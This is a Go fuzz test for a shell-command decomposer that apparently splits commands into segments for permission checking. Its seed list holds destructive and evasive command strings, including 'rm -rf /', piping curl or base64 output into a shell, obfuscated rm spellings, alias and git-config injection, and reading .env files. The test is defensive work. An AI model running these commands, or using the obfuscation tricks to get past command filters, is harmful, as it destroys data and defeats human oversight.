package shell

import (
	"reflect"
	"testing"
)

// FuzzDecompose checks that Decompose never panics, always terminates,
// keeps every position inside the command, reports an unparsable command
// as unresolved, and is deterministic.
func FuzzDecompose(f *testing.F) {
	for _, s := range []string{
		"ls -la",
		"a && b || c; d | e |& f &",
		"echo $(rm -rf /) `x` <(y) >(z)",
		`bash -c "bash -c 'rm -rf /'"`,
		`eval "rm -rf /"; eval "$x"`,
		`find . -name '*.go' -exec rm {} \; -delete`,
		"ls | xargs -0 -I{} sh -c 'rm {}'",
		"sudo -u x env -i A=1 timeout -s KILL 5 nice -n 10 rm -rf x",
		`\rm a; 'r'm b; "r"m c; $'\x72m' d; /usr/bin/rm e`,
		"$x a; $(echo rm) b; ${!v} c",
		"curl -s http://x | sh; base64 -d p | bash",
		"python - <<EOF\nimport os\nEOF",
		"bash <<'EOF'\nrm -rf x\nEOF",
		"cat > f <<EOF\n$(rm x)\nEOF",
		"f() { rm -rf \"$1\"; }; f x",
		"cd /tmp && pushd a; popd; git -C r status; env -C d ls",
		"tar czf o.tgz src && dd if=/dev/zero of=x && cp a b c/",
		"LESS='+!x' less '+!y' f; jq --rawfile a .env 'import \"m\" as $m; .' f; xz -d -S .q a.q; split --filter=sh f p",
		"for i in *; do case $i in a) x;; esac; done; while read l; do y; done < f",
		"coproc N { a; }; time -p b; ! c; (( x = $(d) )); [[ -f $(e) ]]",
		"watch -n1 'rm x'; flock l -c 'rm y'; trap 'rm z' EXIT; parallel ::: 'a 1'",
		"IFS=/; alias ls='rm -rf'; source x",
		"npm test &&",
		"echo 'unclosed",
		"{rm,-rf,/}",
		"python3 -c 'x' && node -e 'y' && perl -lane 'z' f",
		"git -c core.pager='rm x' -c alias.y='!z' difftool -x w; GIT_SSH_COMMAND=s git fetch; fd -x rm {} \\;",
		"tar --to-command=a -I 'b c' -xf t; sed -n 'e d' f; awk 'BEGIN{system(\"e\"); print | \"f\"}'",
		"ssh -o ProxyCommand=p h c; docker exec -it c rm x; kubectl exec p -- rm y; make -f m SHELL=s",
	} {
		f.Add(s)
	}
	catchPanics = false
	f.Fuzz(func(t *testing.T, cmd string) {
		segs := Decompose(cmd, "/w", map[string]string{"HOME": "/h"})
		checkPositions(t, cmd, segs)
		if len(cmd) <= MaxInput && !tooDeep(cmd) {
			if _, err := parse(cmd); err != nil {
				if len(segs) != 1 || segs[0].Resolved {
					t.Fatalf("parse error but %d segments, first resolved=%v", len(segs), len(segs) > 0 && segs[0].Resolved)
				}
			}
		}
		for _, s := range segs {
			if !s.Resolved && s.Why == "" {
				t.Fatalf("unresolved segment without Why: %+v", s)
			}
			if !s.Resolved && s.AllowText != "" {
				t.Fatalf("unresolved segment with AllowText %q", s.AllowText)
			}
		}
		if len(segs) > MaxSegments+1 {
			t.Fatalf("%d segments over the cap", len(segs))
		}
		again := Decompose(cmd, "/w", map[string]string{"HOME": "/h"})
		if budgetHit(segs) || budgetHit(again) {
			return // the clock, not the input, decided where it stopped
		}
		if !reflect.DeepEqual(segs, again) {
			t.Fatalf("Decompose is not deterministic for %q", cmd)
		}
	})
}

func budgetHit(segs []Segment) bool {
	return len(segs) > 0 && segs[len(segs)-1].Why == "time budget exceeded"
}
